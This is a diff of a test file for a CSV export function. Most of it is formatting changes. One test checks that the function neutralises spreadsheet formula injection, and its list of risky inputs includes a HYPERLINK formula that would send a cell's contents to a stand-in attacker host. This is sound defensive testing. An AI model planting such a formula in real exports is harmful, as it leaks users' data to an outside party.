@@ -21,15 +21,29 @@ describe("decodeUpload", () => {
 
 describe("toExcelCsv", () => {
   it("starts with a BOM, quotes where needed and ends lines with CRLF", () => {
-    expect(toExcelCsv(["Nombre", "Nota"], [["Ana, la de Puno", null], ["José", 3]])).toBe(
-      '\uFEFFNombre,Nota\r\n"Ana, la de Puno",\r\nJosé,3\r\n',
-    );
+    expect(
+      toExcelCsv(
+        ["Nombre", "Nota"],
+        [
+          ["Ana, la de Puno", null],
+          ["José", 3],
+        ],
+      ),
+    ).toBe('\uFEFFNombre,Nota\r\n"Ana, la de Puno",\r\nJosé,3\r\n');
   });
 });
 
 describe("toExcelCsv and formulas", () => {
   it("puts a single quote before text cells that a spreadsheet would run, and leaves numbers alone", () => {
-    const risky = ['=HYPERLINK("http://evil.example/?d="&B2,"Ver")', "+51987654321", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\uFF1D1+1"];
+    const risky = [
+      '=HYPERLINK("http://evil.example/?d="&B2,"Ver")',
+      "+51987654321",
+      "-1",
+      "@SUM(A1)",
+      "\t=1+1",
+      "\r=1+1",
+      "\uFF1D1+1",
+    ];
     const csv = toExcelCsv(["Nombre", "Nota"], [...risky.map((name) => [name, -3]), ["Ana", 2.5]]);
     const rows = parse(csv, { bom: true }) as string[][];
     expect(rows.slice(1).map((row) => row[0])).toEqual([...risky.map((name) => `'${name}`), "Ana"]);
